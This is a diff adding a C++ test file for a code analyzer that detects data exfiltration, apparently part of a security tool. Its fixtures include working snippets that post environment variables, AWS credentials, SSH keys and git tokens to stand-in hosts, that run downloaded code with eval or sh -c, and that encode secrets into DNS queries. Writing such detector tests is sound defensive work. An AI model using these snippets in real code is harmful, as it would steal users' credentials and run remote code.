@@ -1,0 +1,287 @@
+#include "analysis/code/data_flow.h"
+
+#include <algorithm>
+#include <catch2/catch.hpp>
+#include <string>
+#include <vector>
+
+#include "analysis/code/analyzer.h"
+#include "analysis/code/syntax.h"
+
+using namespace toolwall;
+using namespace toolwall::code;
+
+namespace {
+
+std::vector<Marker> flows(Language language, const std::string& code, const std::string& path = "src/file") {
+  auto tree = parse(language, code);
+  REQUIRE(tree);
+  return data_flow_markers(*tree, language, path);
+}
+
+std::string names(const std::vector<Marker>& markers) {
+  std::string out;
+  for (const auto& m : markers) out += m.name + " [" + m.detail + "] host=" + m.host + "\n";
+  return out;
+}
+
+bool has(const std::vector<Marker>& markers, const std::string& name) {
+  for (const auto& m : markers)
+    if (m.name == name) return true;
+  return false;
+}
+
+void check_flow(Language language, const std::string& code, const std::string& name, bool expected) {
+  auto found = flows(language, code);
+  INFO(code << "\nfound:\n" << names(found));
+  CHECK(has(found, name) == expected);
+}
+
+}  // namespace
+
+TEST_CASE("the whole environment read in one function and sent by another is followed to the request") {
+  // A dataclass default snapshots the environment; report() posts a payload built by a helper.
+  check_flow(Language::python,
+             "import json, os\nfrom dataclasses import dataclass, field\nfrom urllib import request\n\n@dataclass\n"
+             "class ReporterConfig:\n    endpoint: str = 'https://errors.x.example.com/v2/report'\n"
+             "    context: dict = field(default_factory=lambda: dict(os.environ))\n\n"
+             "def _payload(cfg, exc):\n    return json.dumps({'ctx': cfg.context, 'e': str(exc)}).encode()\n\n"
+             "def report(exc, cfg=None):\n    cfg = cfg or ReporterConfig()\n"
+             "    req = request.Request(cfg.endpoint, data=_payload(cfg, exc))\n    request.urlopen(req, timeout=3)\n",
+             "environment_to_network", true);
+  // Go: a map filled from os.Environ() in one function, marshalled and posted from a goroutine in init().
+  check_flow(Language::go,
+             "package t\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
+             "var endpoint = strings.Join([]string{\"https://\", \"otel\", \".x.example.io\", \"/v1\"}, \"\")\n\n"
+             "func current() map[string]string {\n\tattrs := map[string]string{}\n\tfor _, kv := range os.Environ() {\n"
+             "\t\tif k, v, ok := strings.Cut(kv, \"=\"); ok {\n\t\t\tattrs[k] = v\n\t\t}\n\t}\n\treturn attrs\n}\n\n"
+             "func init() {\n\tgo func() {\n\t\tb, _ := json.Marshal(current())\n\t\tc := &http.Client{}\n"
+             "\t\t_, _ = c.Post(endpoint, \"application/json\", bytes.NewReader(b))\n\t}()\n}\n",
+             "environment_to_network", true);
+  // JavaScript: a class field holds a copy of process.env, a method posts it.
+  check_flow(Language::javascript,
+             "class Reporter {\n  ctx = { ...process.env };\n  send(err) {\n"
+             "    return fetch('https://errors.x.example.com', { method: 'POST', body: JSON.stringify({ err, ctx: this.ctx }) });\n"
+             "  }\n}\n",
+             "environment_to_network", true);
+}
+
+TEST_CASE("the environment handed to a child process or read one variable at a time is not sent anywhere") {
+  check_flow(Language::python,
+             "import os, subprocess, requests\n\ndef environment():\n    env = dict(os.environ)\n    env['CI'] = '1'\n    return env\n\n"
+             "def run(cmd):\n    subprocess.run(cmd, env=environment(), check=True)\n"
+             "    return requests.post('https://api.x.example.com/runs', json={'cmd': cmd, 'sha': os.environ['GITHUB_SHA']})\n",
+             "environment_to_network", false);
+  check_flow(Language::go,
+             "package t\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
+             "func run() {\n\tcmd := exec.Command(\"make\")\n\tcmd.Env = os.Environ()\n\t_ = cmd.Run()\n"
+             "\t_, _ = http.Post(\"https://api.x.example.com\", \"text/plain\", nil)\n}\n",
+             "environment_to_network", false);
+}
+
+TEST_CASE("a credential file read in pieces is followed through helpers, dispatch tables and request objects") {
+  // One function reads ~/.aws/credentials by path.join, another writes it into an https.request.
+  auto found = flows(Language::javascript,
+                     "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+                     "const https = require('https');\nconst HOST = ['cfg', 'cloudsync', 'dev'].join('.');\n"
+                     "function loadProfile() {\n  const file = path.join(os.homedir(), '.aws', 'credentials');\n"
+                     "  return fs.readFileSync(file, 'utf8');\n}\n"
+                     "function push(body) {\n  const req = https.request({ host: HOST, method: 'POST' });\n"
+                     "  req.on('error', () => {});\n  req.end(body);\n}\n"
+                     "module.exports = function sync() { const p = loadProfile(); if (p) push(p); };\n");
+  INFO(names(found));
+  REQUIRE(has(found, "credentials_to_network"));
+  CHECK(found.front().host == "cfg.cloudsync.dev");  // the host assembled from pieces, named in the finding
+  // A dict of sink functions picked by a key; the SSH key read by pathlib's / operator.
+  check_flow(Language::python,
+             "import base64, pathlib\nimport httpx\n\nBACKUP = 'https://keyvault-backup.x.example.com/api'\n\n"
+             "def _to_remote(blob):\n    httpx.put(BACKUP, content=base64.b64encode(blob), timeout=5)\n\n"
+             "def _to_disk(blob):\n    pathlib.Path('/tmp/k.bak').write_bytes(blob)\n\n"
+             "SINKS = {'remote': _to_remote, 'disk': _to_disk}\n\n"
+             "def backup_key(mode='remote'):\n    key = pathlib.Path.home() / '.ssh' / 'id_ed25519'\n"
+             "    SINKS[mode](key.read_bytes())\n",
+             "credentials_to_network", true);
+  // git's credential helper output parsed into a dict and posted.
+  check_flow(Language::python,
+             "import subprocess, requests\n\ndef _credential(host):\n"
+             "    out = subprocess.run(['git', 'credential', 'fill'], input=f'host={host}\\n\\n', capture_output=True, text=True).stdout\n"
+             "    return dict(line.split('=', 1) for line in out.splitlines() if '=' in line)\n\n"
+             "def check(host='github.com'):\n    cred = _credential(host)\n"
+             "    return requests.post('https://token-check.x.example.dev/validate', json={'token': cred.get('password')}).ok\n",
+             "credentials_to_network", true);
+  // boto3's frozen credentials posted from an atexit hook.
+  check_flow(Language::python,
+             "import atexit, json, urllib.request\nimport boto3\n\nsession = boto3.Session()\n\n"
+             "def _summary():\n    creds = session.get_credentials().get_frozen_credentials()\n"
+             "    body = json.dumps({'who': creds.access_key, 'sig': creds.secret_key}).encode()\n"
+             "    urllib.request.urlopen('https://export-stats.x.example.io/done', data=body)\n\natexit.register(_summary)\n",
+             "credentials_to_network", true);
+}
+
+TEST_CASE("credentials handed to their own vendor, and public keys, are not followed as leaving") {
+  check_flow(Language::python,
+             "import requests\nimport boto3\n\ndef sign():\n    creds = boto3.Session().get_credentials()\n"
+             "    return requests.post('https://sts.amazonaws.com/', data={'key': creds.access_key})\n",
+             "credentials_to_network", false);
+  check_flow(Language::python,
+             "import pathlib, requests\n\ndef upload():\n    key = (pathlib.Path.home() / '.ssh' / 'id_ed25519.pub').read_text()\n"
+             "    requests.post('https://git.x.example.com/api/keys', json={'key': key})\n",
+             "credentials_to_network", false);
+}
+
+TEST_CASE("incoming Authorization headers are followed into a request body but not when forwarded as headers") {
+  check_flow(Language::typescript,
+             "import type { Request } from 'express';\nconst AUDIT_URL = 'https://hooks.audit-relay.x.example.net/collect';\n"
+             "type E = { auth?: string };\nfunction toEvent(req: Request): E { return { auth: req.headers.authorization }; }\n"
+             "const queue: E[] = [];\nsetInterval(() => {\n  const batch = queue.splice(0, queue.length);\n"
+             "  void fetch(AUDIT_URL, { method: 'POST', body: JSON.stringify(batch), headers: { 'content-type': 'application/json' } });\n"
+             "}, 5000);\nexport function audit(req: Request, _res: unknown, next: () => void) { queue.push(toEvent(req)); next(); }\n",
+             "credentials_to_network", true);
+  // A relay forwarding the caller's token is what proxies and backends-for-frontends do.
+  check_flow(Language::javascript,
+             "const UPSTREAM = 'https://api.x.example.com';\nexport async function relay(req) {\n"
+             "  const token = req.headers.authorization;\n"
+             "  return fetch(UPSTREAM + req.path, { method: 'POST', headers: { authorization: token }, body: req.body });\n}\n",
+             "credentials_to_network", false);
+  check_flow(Language::python,
+             "import requests\nfrom flask import request\n\ndef relay():\n    token = request.headers.get('Authorization')\n"
+             "    return requests.post('https://api.x.example.com/v1', headers={'Authorization': token}, json=request.json)\n",
+             "credentials_to_network", false);
+}
+
+TEST_CASE("a token handed to a library function does not taint what that function returns") {
+  check_flow(Language::javascript,
+             "import jwt from 'jsonwebtoken';\nexport async function log(req) {\n"
+             "  const claims = jwt.verify(req.headers.authorization, KEY);\n"
+             "  await fetch('https://logs.x.example.com', { method: 'POST', body: JSON.stringify({ user: claims.sub }) });\n}\n",
+             "credentials_to_network", false);
+}
+
+TEST_CASE("downloaded code run in another function is followed to where it runs") {
+  check_flow(Language::javascript,
+             "const FLAGS_URL = 'https://flags.x.example.app/v1/bundle.js';\nlet cache = null;\n"
+             "async function loadRules() {\n  const res = await fetch(FLAGS_URL);\n  return res.text();\n}\n"
+             "export async function getFlags(user) {\n  if (!cache) {\n    const src = await loadRules();\n"
+             "    cache = new Function('user', 'process', src);\n  }\n  return cache(user, process);\n}\n",
+             "fetched_code_runs", true);
+  check_flow(Language::go,
+             "package u\n\nimport (\n\t\"context\"\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n)\n\n"
+             "const hookURL = \"https://releases.x.example.net/post-update.sh\"\n\ntype U struct{ Client *http.Client }\n\n"
+             "func (u *U) hook(ctx context.Context) ([]byte, error) {\n"
+             "\treq, _ := http.NewRequestWithContext(ctx, http.MethodGet, hookURL, nil)\n\tresp, err := u.Client.Do(req)\n"
+             "\tif err != nil {\n\t\treturn nil, err\n\t}\n\tdefer resp.Body.Close()\n\treturn io.ReadAll(resp.Body)\n}\n\n"
+             "func (u *U) Run(ctx context.Context) error {\n\tscript, err := u.hook(ctx)\n\tif err != nil {\n\t\treturn err\n\t}\n"
+             "\treturn exec.CommandContext(ctx, \"sh\", \"-c\", string(script)).Run()\n}\n",
+             "fetched_code_runs", true);
+  check_flow(Language::python,
+             "import requests\n\ndef plugin(url):\n    return requests.get(url, timeout=5).text\n\n"
+             "def load():\n    code = plugin('https://plugins.x.example.com/p.py')\n    exec(code, {})\n",
+             "fetched_code_runs", true);
+  // A promise chain: the callback's parameter is what the previous step resolved to.
+  check_flow(Language::javascript,
+             "fetch('https://cdn.x.example.com/s.js').then(r => r.text()).then(src => eval(src));\n",
+             "fetched_code_runs", true);
+}
+
+TEST_CASE("downloaded data that is only read, and code that runs literals, are not fetched code running") {
+  check_flow(Language::javascript,
+             "const URL = 'https://flags.x.example.com/flags.json';\nasync function load() { const r = await fetch(URL); return r.json(); }\n"
+             "export async function flags() { const rules = await load(); const f = new Function('return 1'); return f() && rules; }\n",
+             "fetched_code_runs", false);
+  check_flow(Language::python,
+             "import requests, subprocess\n\ndef version():\n    tag = requests.get('https://api.x.example.com/latest').json()['tag']\n"
+             "    subprocess.run(['git', 'checkout', tag], check=True)\n    exec('print(1)')\n",
+             "fetched_code_runs", false);
+}
+
+TEST_CASE("a secret variable encoded into names the code resolves is followed into the DNS query") {
+  check_flow(Language::javascript,
+             "const dns = require('dns').promises;\nconst ZONE = 'r.dnscache-warm.x.example.net';\n"
+             "function labels(str) {\n  const hex = Buffer.from(str).toString('hex');\n  const out = [];\n"
+             "  for (let i = 0; i < hex.length; i += 60) out.push(hex.slice(i, i + 60));\n  return out;\n}\n"
+             "async function warm(name) { try { await dns.resolve4(name); } catch {} }\n"
+             "async function main() {\n  const seed = [process.env.DATABASE_URL, process.env.STRIPE_SECRET_KEY].join('|');\n"
+             "  const chunks = labels(seed);\n  await Promise.all(chunks.map((c, i) => warm(`${i}.${c}.${ZONE}`)));\n}\nmain();\n",
+             "secret_in_dns", true);
+  check_flow(Language::python,
+             "import base64, os, socket\n\ndef beacon():\n    s = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n"
+             "    socket.gethostbyname(f'{s[:60]}.t.x.example.net')\n",
+             "secret_in_dns", true);
+  // Resolving the database's own host, taken from its URL, is a health check.
+  check_flow(Language::python,
+             "import os, socket\n\ndef db_up():\n    dsn = os.environ['DATABASE_URL']\n    host = dsn.split('@')[1].split('/')[0]\n"
+             "    return socket.gethostbyname(host)\n",
+             "secret_in_dns", false);
+}
+
+TEST_CASE("attributes put on a log record go where an HTTP logging handler sends the record") {
+  check_flow(Language::python,
+             "import logging, logging.handlers, os\n\nclass ContextFilter(logging.Filter):\n    def filter(self, record):\n"
+             "        record.runtime = {k: v for k, v in os.environ.items()}\n        return True\n\n"
+             "def configure():\n    remote = logging.handlers.HTTPHandler(host='logs.x.example.com', url='/v1', method='POST')\n"
+             "    remote.addFilter(ContextFilter())\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import logging, os\n\nclass ContextFilter(logging.Filter):\n    def filter(self, record):\n"
+             "        record.runtime = {k: v for k, v in os.environ.items()}\n        return True\n\n"
+             "logging.getLogger().addHandler(logging.StreamHandler())\n",
+             "environment_to_network", false);
+}
+
+TEST_CASE("hostile nesting and long files end within the follower's bounds") {
+  std::string deep = "x = " + std::string(20000, '(') + "os.environ" + std::string(20000, ')') + "\nrequests.post(u, json=x)\n";
+  auto tree = parse(Language::python, deep);
+  REQUIRE(tree);
+  CHECK_NOTHROW(data_flow_markers(*tree, Language::python, "deep.py"));
+  std::string wide = "import os, requests\n";
+  for (int i = 0; i < 4000; ++i)
+    wide += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
+  wide += "def f4000(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
+  auto wide_tree = parse(Language::python, wide);
+  REQUIRE(wide_tree);
+  // 4,000 hops need more passes than the follower makes: it stops rather than stalls, finding nothing.
+  CHECK_FALSE(has(data_flow_markers(*wide_tree, Language::python, "wide.py"), "environment_to_network"));
+}
+
+TEST_CASE("a flow followed from source to sink replaces the whole-file reading of the same kind") {
+  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
+  REQUIRE(analyzer);
+  auto count = [](const Facts& facts, const std::string& name) {
+    return std::count_if(facts.markers.begin(), facts.markers.end(), [&](const Marker& m) { return m.name == name; });
+  };
+  Facts followed = (*analyzer)->analyze_write(
+      "ingest/report.py", "import json, os, requests\n\ndef snapshot():\n    return dict(os.environ)\n\n"
+                          "def send():\n    requests.post('https://e.x.example.com', data=json.dumps(snapshot()))\n");
+  CHECK(count(followed, "environment_to_network") == 1);
+  CHECK(count(followed, "environment_with_network") == 0);
+  // Where the follower loses the thread (an unknown helper in between), the whole-file reading stays.
+  Facts lost = (*analyzer)->analyze_write(
+      "ingest/report.py", "import os, requests\nfrom helpers import wrap\n\ndef send():\n"
+                          "    requests.post('https://e.x.example.com', data=wrap(dict(os.environ)))\n");
+  CHECK(count(lost, "environment_to_network") == 0);
+  CHECK(count(lost, "environment_with_network") == 1);
+}
+
+TEST_CASE("functions handed to threads, executors and timers get the arguments given with them") {
+  check_flow(Language::python,
+             "import functools, json, os, threading, urllib.request\n\n_ENDPOINT = 'https://api.perf.x.example.dev/v1/spans'\n\n"
+             "def _ship(payload):\n    req = urllib.request.Request(_ENDPOINT, data=json.dumps(payload).encode())\n"
+             "    urllib.request.urlopen(req, timeout=2)\n\n"
+             "def timed(fn):\n    @functools.wraps(fn)\n    def wrapper(*args, **kwargs):\n        span = {'fn': fn.__qualname__}\n"
+             "        span['ctx'] = dict(os.environ)\n        threading.Thread(target=_ship, args=(span,), daemon=True).start()\n"
+             "        return fn(*args, **kwargs)\n    return wrapper\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\n\n"
+             "def send(body):\n    requests.post('https://x.example.com/in', json=body)\n\n"
+             "with ThreadPoolExecutor() as pool:\n    pool.submit(send, dict(os.environ))\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "function send(body) { return fetch('https://x.example.com/in', { method: 'POST', body }); }\n"
+             "setTimeout(send, 1000, JSON.stringify(process.env));\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os, threading, requests\n\ndef send(body):\n    requests.post('https://x.example.com/in', json=body)\n\n"
+             "threading.Thread(target=send, args=({'pid': os.getpid()},)).start()\n",
+             "environment_to_network", false);
+}
